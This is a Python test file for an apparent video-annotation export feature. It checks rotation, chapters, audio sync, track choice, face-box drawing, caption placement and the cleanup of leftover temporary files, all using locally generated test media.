def test_an_annotated_video_whose_name_fits_is_written(tmp_path, clip):
    """It is drawn in a hidden folder named after it: a name near the file system's 255 bytes, which fits, gave a
    folder's name that did not ("File name too long"), where the other formats were written."""
    stem = "a" * (255 - len(export.ANNOTATED_SUFFIX))
    source = tmp_path / f"{stem}.mp4"
    source.write_bytes(clip.read_bytes())
    a = make_analysis(2, duration=CLIP_SECONDS, path=str(source))
    out = export.write(a, tmp_path / "out", ["mp4"])
    assert [p.name for p in (tmp_path / "out").iterdir()] == [f"{stem}{export.ANNOTATED_SUFFIX}"] == [out[0].name]
    assert len(decode(out[0])[2]) == len(decode(clip)[2])


@pytest.mark.parametrize("stored", ["turned", "wide"])
def test_annotated_video_shows_the_picture_as_a_player_does(tmp_path, clip, stored):
    """A phone video stores landscape pixels and a display rotation: the output must be portrait. Pixels shown twice
    as wide as high (a DV camera's, an anamorphic DVD's: 160x240 shown as 320x240) were drawn square: the picture,
    its faces and boxes half as wide."""
    source = tmp_path / f"{stored}.mp4"
    if stored == "turned":
        ffmpeg("-display_rotation", "90", "-i", clip, "-c", "copy", source)
    else:
        ffmpeg("-i", clip, "-vf", "scale=160:240,setsar=2", "-c:v", "libx264", "-c:a", "copy", source)
    a = make_analysis(2, duration=CLIP_SECONDS, path=str(source))
    out = export.write_video(a, source, tmp_path / "out.mp4")
    _, _, before = decode(clip)
    _, _, after = decode(out)
    shown = np.rot90(before[10], k=1) if stored == "turned" else before[10]  # rotation 90: a quarter turn anticlockwise
    assert after[0].shape == shown.shape
    half, bound = shown.shape[0] // 2, 6 if stored == "turned" else 12  # wide: scaled down, then up, by the encoder
    assert np.abs(after[10][:half].astype(int) - shown[:half].astype(int)).mean() < bound  # not squashed


def test_annotated_video_of_a_file_with_chapters(tmp_path, clip):
    """moviepy 2.2 cannot read a file with a single chapter (Zulko/moviepy#2419; editor exports, the
    MELD clips): a file with chapters is read from a copy without them, rotation kept."""
    chapters = tmp_path / "chapters.txt"
    chapters.write_text(";FFMETADATA1\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=2000\ntitle=00:27:27.145\n")
    chaptered = tmp_path / "chaptered.mp4"
    ffmpeg("-display_rotation", "90", "-i", clip, "-i", chapters, "-map", "0", "-map_chapters", "1", "-c", "copy",
           chaptered)
    with av.open(str(chaptered)) as c:
        assert len(c.chapters()) == 1
    a = make_analysis(2, duration=CLIP_SECONDS, path=str(chaptered))
    out = export.write(a, tmp_path / "out", ["mp4"])
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["chaptered.annotated.mp4"]  # the copy is gone
    kinds, duration, after = decode(out[0])
    _, _, before = decode(clip)
    w, h = CLIP_SIZE
    assert kinds == ["audio", "video"] and duration == pytest.approx(CLIP_SECONDS, abs=0.1)
    assert after[0].shape == (w, h, 3)  # upright, as the rotated original shows
    upright = np.rot90(before[10], k=1).astype(int)
    assert np.abs(after[10][: w // 2].astype(int) - upright[: w // 2]).mean() < 6


def test_annotated_video_of_a_recording_with_no_duration_in_its_header(tmp_path):
    """A browser records WebM to a stream, its header without a duration: moviepy 2.2 failed on "Duration: N/A" with
    ffmpeg's whole stream dump. It is read from a copy that has one."""
    recording = write_pipe_webm(tmp_path / "recording.webm", duration=2.0)
    with av.open(str(recording)) as c:
        assert c.duration is None
    a = make_analysis(2, duration=2.0, path=str(recording))
    out = export.write(a, tmp_path / "out", ["mp4"])
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["recording.annotated.mp4"]  # the copy is gone
    kinds, duration, after = decode(out[0])
    assert kinds == ["audio", "video"] and duration == pytest.approx(2.0, abs=0.1)
    assert abs(len(after) - 50) <= 1  # 2 s at 25 frames a second, as recorded


def test_annotated_video_plays_the_analysed_sound_in_time(tmp_path):
    """The annotated video's sound is the analysed one, where the analysis put it: a file whose tone starts
    1.5 s after its picture (moviepy's reader dropped the delay: the tone played 1.5 s early), on the
    second of two audio tracks (the default one, which the analysis reads; the first is silent)."""
    w, h = CLIP_SIZE
    source = tmp_path / "late tone.mp4"
    ffmpeg("-f", "lavfi", "-i", f"testsrc2=size={w}x{h}:rate={CLIP_FPS}:duration=3",
           "-f", "lavfi", "-i", "anullsrc=sample_rate=16000:duration=3",
           "-itsoffset", "1.5", "-f", "lavfi", "-i", "sine=frequency=440:sample_rate=16000:duration=1.5",
           "-map", "0:v", "-map", "1:a", "-map", "2:a", "-disposition:a:0", "0", "-disposition:a:1", "default",
           "-c:v", "libx264", "-pix_fmt", "yuv420p", "-c:a", "aac", source)
    analysed = media.load_audio(source)
    loud = lambda x: float(np.sqrt(np.mean(np.square(x))))  # noqa: E731
    assert loud(analysed[: 16000]) < 0.01 < loud(analysed[int(1.7 * 16000):int(2.8 * 16000)])  # as analysed
    out = export.write_video(make_analysis(2, duration=3.0, path=str(source)), source, tmp_path / "out.mp4")
    played = media.load_audio(out)
    assert loud(played[: 16000]) < 0.01 < loud(played[int(1.7 * 16000):int(2.8 * 16000)])


def test_annotated_video_plays_the_audio_track_chosen(tmp_path):
    """An analysis of a chosen audio track (``media.audio_track``: --audio-track eng) is drawn over that track's
    sound, not over the one a player plays (the default German track, a steady tone): the speech starts at 0.5 s,
    so the annotated video's first 0.4 s are quiet."""
    source = dubbed_video(tmp_path / "dubbed.mkv", ["I am so happy to see you again."]).path
    loud = lambda x: float(np.sqrt(np.mean(np.square(x))))  # noqa: E731
    for choice, tone in [(None, True), ("eng", False), (2, False), (1, True)]:
        a = make_analysis(2, duration=media.probe(source).duration, path=str(source))
        if choice is not None:
            a.media.audio_track = choice
        played = media.load_audio(export.write_video(a, source, tmp_path / f"{choice}.mp4"))
        assert (loud(played[:int(0.4 * 16000)]) > 0.05) == tone and loud(played) > 0.05, choice


def test_annotated_video_needs_a_video_stream(tmp_path):
    sound = tmp_path / "tone.m4a"
    ffmpeg("-f", "lavfi", "-i", "sine=frequency=300:duration=1", "-c:a", "aac", sound)
    a = make_analysis(2, duration=1.0, path=str(sound))
    a.media = MediaFacts(str(sound), 1.0, has_audio=True, has_video=False)
    for s in a.segments:  # no picture, no face
        s.face_box = None
    with pytest.raises(ValueError, match="tone.m4a.*no video stream"):
        export.write(a, tmp_path / "out", ["mp4"])
    with pytest.raises(FileNotFoundError, match="missing.mp4"):
        export.write_video(a, tmp_path / "missing.mp4", tmp_path / "o.mp4")
    assert not (tmp_path / "o.mp4").exists()


def hand_segments(rng):
    """Three segments of 0.8 s over the clip: a face reading anger, no face, a face without a reading."""
    seg0 = random_segment(rng, 0.0, 0.8, "the face is angry", modalities=("text", "audio", "video"))
    seg0.per_modality["video"]["emotion"] = one_hot("anger", EMOTIONS)
    seg0.emotion = one_hot("joy", EMOTIONS)  # the answer differs: the box shows what the face says
    seg1 = random_segment(rng, 0.8, 1.6, "no face here", modalities=("text", "audio"))
    seg2 = random_segment(rng, 1.6, CLIP_SECONDS, "a face the model did not read", modalities=("text",))
    seg2.emotion = one_hot("sadness", EMOTIONS)
    seg2.face_box = [0.5, 0.05, 0.95, 0.45]
    return [seg0, seg1, seg2]


def test_annotated_video_draws_the_face_box(tmp_path, clip):
    a = make_analysis(3, duration=CLIP_SECONDS, path=str(clip))
    a.segments = hand_segments(np.random.default_rng(1))
    assert a.segments[0].face_box == [0.25, 0.2, 0.6, 0.7] and a.segments[1].face_box is None
    out = export.write_video(a, clip, tmp_path / "boxed.mp4")
    _, _, before = decode(clip)
    _, _, after = decode(out)
    size = CLIP_SIZE
    anger, sadness = (np.array(plots.hex_rgb(c)) for c in ("#d62728", "#1f77b4"))

    def edges(frame, box):
        """Mean colour of the middle of the top and left lines, and of the box's inside."""
        x0, y0, x1, y1 = overlay.box_pixels(box, size)
        top = frame[y0 + 1:y0 + 3, x0 + 8:x1 - 8].reshape(-1, 3)
        left = frame[y0 + 8:y1 - 8, x0 + 1:x0 + 3].reshape(-1, 3)
        inside = frame[y0 + 10:y1 - 10, x0 + 10:x1 - 10].astype(int)
        return np.concatenate([top, left]).astype(int), inside

    line, inside = edges(after[10], a.segments[0].face_box)  # t = 0.4 s: segment 0
    assert np.abs(line - anger).mean(axis=0).max() < 40, line.mean(axis=0)  # what the face says
    old_line, old_inside = edges(before[10], a.segments[0].face_box)
    assert np.abs(old_line - anger).mean(axis=0).max() > 60  # the pattern was not that colour
    assert np.abs(inside - old_inside).mean() < 4  # the face itself is not covered
    line, _ = edges(after[30], a.segments[0].face_box)  # t = 1.2 s: segment 1, no face
    old_line, _ = edges(before[30], a.segments[0].face_box)
    assert np.abs(line - old_line).mean() < 6
    line, _ = edges(after[50], a.segments[2].face_box)  # t = 2.0 s: no face reading, fused colour
    assert np.abs(line - sadness).mean(axis=0).max() < 40, line.mean(axis=0)


def test_annotated_video_caption_moves_above_a_face_low_in_the_picture(tmp_path, clip):
    """The caption goes to the top where at the bottom it would cover the segment's face (its mouth)."""
    a = make_analysis(2, duration=CLIP_SECONDS, path=str(clip))
    a.segments[0].end = a.segments[1].start = CLIP_SECONDS / 2
    a.segments[0].face_box = [0.3, 0.5, 0.7, 0.98]  # a face low in the picture: caption on top
    a.segments[1].face_box = [0.3, 0.05, 0.7, 0.5]  # a face high in the picture: caption at the bottom
    out = export.write_video(a, clip, tmp_path / "captioned.mp4")
    _, _, before = decode(clip)
    _, _, after = decode(out)
    h = CLIP_SIZE[1]

    def changed(i):
        """How much the top and the bottom fifth changed, outside the face box's lines (mean |difference|)."""
        new, old = after[i].astype(int), before[i].astype(int)
        cols = slice(0, CLIP_SIZE[0] // 4)  # left of both face boxes
        return (np.abs(new[: h // 5, cols] - old[: h // 5, cols]).mean(),
                np.abs(new[-h // 5:, cols] - old[-h // 5:, cols]).mean())

    top, bottom = changed(round(a.segments[0].start * CLIP_FPS) + 5)
    assert top > 20 and bottom < 4, (top, bottom)
    top, bottom = changed(round(a.segments[1].end * CLIP_FPS) - 5)
    assert bottom > 20 and top < 4, (top, bottom)


def test_box_pixels_stay_inside_the_frame():
    assert overlay.box_pixels([0.25, 0.2, 0.6, 0.7], (320, 240)) == (80, 48, 192, 168)
    assert overlay.box_pixels([0.0, 0.0, 1.0, 1.0], (320, 240)) == (0, 0, 320, 240)
    assert overlay.box_pixels([0.999, 0.999, 1.0, 1.0], (320, 240)) == (319, 239, 320, 240)  # >= 1 px


def test_annotated_video_keeps_only_the_caption_of_the_segment_playing():
    """An hour's talk has some 1,500 segments: each caption box kept for the whole drawing held 2 MB at 720p
    (3 GB in all). The frames come in time order, so the segment playing is the only one worth keeping."""
    a = make_analysis(40, duration=120.0)
    painter = overlay._OverlayPainter(a.segments, (320, 240), a.language)
    frame = np.zeros((240, 320, 3), np.uint8)
    for seg in a.segments:
        for t in (seg.start + 0.25 * seg.duration, seg.start + 0.75 * seg.duration):
            drawn = painter.paint(frame, t)
            assert drawn.any() and list(painter.cache) == [a.segments.index(seg)]


def test_the_caption_and_the_hover_say_who_speaks_where_the_subtitles_name_them():
    a = make_analysis(3)
    a.segments[0].speaker = "Ann"
    painter = overlay._OverlayPainter(a.segments, (320, 240), a.language)
    assert painter._words(a.segments[0], set())[0] == f"\u2068Ann\u2069: {a.segments[0].text}"
    # the name in its own direction (an isolate), which the caption's direction and alignment pass over: "Ann: " put
    # Arabic words on the left, as if read left to right, and an Arabic name English ones on the right
    assert overlay._right_to_left("\u2068Ann\u2069: الطقس جميل!") and not overlay._right_to_left("\u2068ليلى\u2069: Hi")
    assert plots._hover_words(a.segments[0]).startswith("<b>\u2068Ann\u2069</b><br>")  # the plots' hover: above
    assert painter._words(a.segments[2], set())[0] == " ".join(a.segments[2].text.split())  # no one named


def test_what_a_killed_write_left_is_removed_by_the_next_but_not_a_running_one_s(tmp_path, clip):
    """A write killed outright (SIGKILL, the memory killer: nothing runs to clean up) left its hidden temporary file,
    or the annotated video's folder with the video half written, beside the results for ever; `--skip-existing`'s
    next run wrote the results beside them. The next write of the same result removes what such a write left,
    untouched for an hour, and keeps a write still running (touched now) and files of other names."""
    from mmsent.results import LEFTOVER_AGE_S, temporary_prefix

    a = make_analysis(3, duration=CLIP_SECONDS, path=str(clip))
    json_out, mp4_out = tmp_path / "pattern clip.json", tmp_path / "pattern clip.annotated.mp4"
    old = time.time() - LEFTOVER_AGE_S - 60
    killed_json = tmp_path / (temporary_prefix(json_out) + "k1ll3d_x.tmp")
    killed_video = tmp_path / (temporary_prefix(mp4_out) + "abcd_123")
    running = tmp_path / (temporary_prefix(json_out) + "running1.tmp")
    own = tmp_path / (temporary_prefix(json_out) + "my notes.txt")  # the user's hidden file, named alike
    for f in (killed_json, running, own, killed_video / "pattern clip.annotated.mp4", killed_video / "sound.m4a"):
        f.parent.mkdir(exist_ok=True)
        f.write_bytes(b"half written")
    for f in (killed_json, own, killed_video / "pattern clip.annotated.mp4", killed_video / "sound.m4a", killed_video):
        os.utime(f, (old, old))
    export.write(a, tmp_path, ["json", "mp4"])
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [json_out.name, mp4_out.name, running.name, own.name])
